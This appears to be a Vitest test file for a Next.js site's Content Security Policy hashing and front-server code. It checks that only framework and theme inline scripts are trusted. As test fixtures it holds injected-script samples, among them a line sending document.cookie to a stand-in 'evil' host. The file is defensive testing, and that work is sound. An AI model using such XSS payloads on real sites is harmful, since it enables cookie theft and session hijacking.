import { createHash } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { themeScript } from '@/components/theme/theme-script';
import { addedScripts, inlineHashes, isTrustedScript, pagePolicy } from '@/lib/page-cache/csp';
import { createFrontServer } from '@/lib/page-cache/front-server';
import { versionFile } from '@/lib/store/version-file';

/** What a browser compares: SHA-256 of the script's text, base64. */
const sha = (code: string) => `sha256-${createHash('sha256').update(code).digest('base64')}`;
const scriptSrc = (policy: string) =>
  policy
    .split(';')
    .map((d) => d.trim())
    .find((d) => d.startsWith('script-src '))!
    .split(' ')
    .slice(1);

const FLIGHT = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
const INJECTED = 'document.title="pwned"';
const page = (...scripts: string[]) =>
  `<!DOCTYPE html><html><head><script>${themeScript}</script></head><body><main>Hi</main>${scripts
    .map((s) => `<script>${s}</script>`)
    .join(
      '',
    )}<script type="application/ld+json">{"@type":"Thing"}</script><script src="/_next/static/a.js" async=""></script></body></html>`;

describe('inline script hashes', () => {
  it("lists the framework's and the theme's scripts, never an injected one or a data block", () => {
    const { scripts } = inlineHashes(page(FLIGHT, INJECTED));
    expect(scripts).toEqual([sha(themeScript), sha(FLIGHT)]);
    const policy = pagePolicy(page(FLIGHT, INJECTED));
    expect(scriptSrc(policy)).toEqual(["'self'", `'${sha(themeScript)}'`, `'${sha(FLIGHT)}'`]);
    expect(policy).toContain("style-src-elem 'self';");
  });

  it('hashes a script as the browser reads it: newlines normalised, once per distinct text', () => {
    const crlf = 'self.__next_f.push([1,"a"]);\r\nself.__next_f.push([1,"b"])';
    const { scripts } = inlineHashes(`<script>${crlf}</script><SCRIPT>${crlf}</SCRIPT >`);
    expect(scripts).toEqual([sha(crlf.replace('\r\n', '\n'))]);
  });

  it('trusts framework calls only while their arguments are pure data', () => {
    expect(isTrustedScript(FLIGHT)).toBe(true);
    expect(isTrustedScript('(self.__next_f=self.__next_f||[]).push([0])')).toBe(true);
    expect(isTrustedScript('$RC("B:0","S:0")')).toBe(true);
    expect(
      isTrustedScript(
        '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});',
      ),
    ).toBe(true);
    expect(isTrustedScript(`${FLIGHT};${INJECTED}`)).toBe(false);
    expect(isTrustedScript('self.__next_f.push([1,"x"].concat(fetch("/x")))')).toBe(false);
    expect(isTrustedScript('$RC("B:0",alert(1))')).toBe(false);
    expect(isTrustedScript('self.__next_f.push([1,`x`])')).toBe(false);
  });

  it("trusts React's runtime only word for word as Next's server runtime holds it", () => {
    expect(isTrustedScript('requestAnimationFrame(function(){$RT=performance.now()});')).toBe(true);
    expect(isTrustedScript('$RB=[]')).toBe(true);
    expect(isTrustedScript('$RC=function(a,b){fetch("//evil/"+document.cookie)}')).toBe(false);
  });

  it('trusts what a rewrite of ours added, not what was already in the page', () => {
    const before = page(INJECTED);
    const loader = '(function(s){s.forEach(function(u){})})(["/_next/static/a.js"])';
    const after = before.replace('</body>', `<script>${loader}</script></body>`);
    const own = addedScripts(before, after);
    expect([...own]).toEqual([loader]);
    expect(inlineHashes(after, own).scripts).toEqual([sha(themeScript), sha(loader)]);
  });
});

describe('the front server sends each page the policy of its own bytes', () => {
  let dir: string;
  let server: http.Server;

  afterEach(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
    fs.rmSync(dir, { recursive: true, force: true });
  });

  /** Writes like Next: a head flushed first, then the page in chunks, gzipped when accepted. */
  async function start(enabled: boolean) {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csp-'));
    const databaseFile = path.join(dir, 'orbit.db');
    fs.writeFileSync(versionFile(databaseFile), 'v1');
    const handle = async (req: http.IncomingMessage, res: http.ServerResponse) => {
      await Promise.resolve();
      const html = page(FLIGHT, INJECTED);
      if (req.url?.startsWith('/feed')) {
        res.writeHead(200, { 'content-type': 'application/rss+xml' }).end('<rss/>');
        return;
      }
      res.setHeader('content-type', 'text/html; charset=utf-8');
      res.setHeader('content-security-policy', "script-src 'self' 'unsafe-inline'");
      const gzip = /gzip/.test(String(req.headers['accept-encoding']));
      if (gzip) res.setHeader('content-encoding', 'gzip');
      res.flushHeaders();
      const body = gzip ? zlib.gzipSync(html) : Buffer.from(html);
      res.write(body.subarray(0, 100));
      await new Promise((r) => setTimeout(r, 5));
      res.end(body.subarray(100));
    };
    server = createFrontServer({
      handle,
      databaseFile,
      live: false,
      enabled,
      ttlMs: 60_000,
      maxEntries: 100,
      maxBytes: 1e7,
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  const expectStrict = (policy: string | null) => {
    const sources = scriptSrc(policy!);
    expect(sources).toEqual(
      expect.arrayContaining(["'self'", `'${sha(themeScript)}'`, `'${sha(FLIGHT)}'`]),
    );
    expect(sources).not.toContain(`'${sha(INJECTED)}'`);
    expect(sources.join(' ')).not.toMatch(/unsafe/);
  };

  it('hashes a cached page once and sends the same policy with every hit', async () => {
    const base = await start(true);
    const miss = await fetch(`${base}/agencies`);
    expect(miss.headers.get('x-page-cache')).toBe('MISS');
    expectStrict(miss.headers.get('content-security-policy'));
    const hit = await fetch(`${base}/agencies`);
    expect(hit.headers.get('x-page-cache')).toBe('HIT');
    expect(hit.headers.get('content-security-policy')).toBe(
      miss.headers.get('content-security-policy'),
    );
  });

  it('hashes pages that bypass the cache on their way out, compressed or not', async () => {
    const base = await start(false);
    for (const encoding of ['identity', 'gzip']) {
      const response = await fetch(`${base}/agencies`, {
        headers: { 'accept-encoding': encoding },
      });
      expect(response.headers.get('content-encoding') ?? 'identity').toBe(encoding);
      expect(await response.text()).toContain('<main>Hi</main>');
      expectStrict(response.headers.get('content-security-policy'));
    }
  });

  it('leaves other responses as Next sent them', async () => {
    const base = await start(false);
    const feed = await fetch(`${base}/feed`);
    expect(await feed.text()).toBe('<rss/>');
    expect(feed.headers.get('content-security-policy')).toBeNull();
  });
});
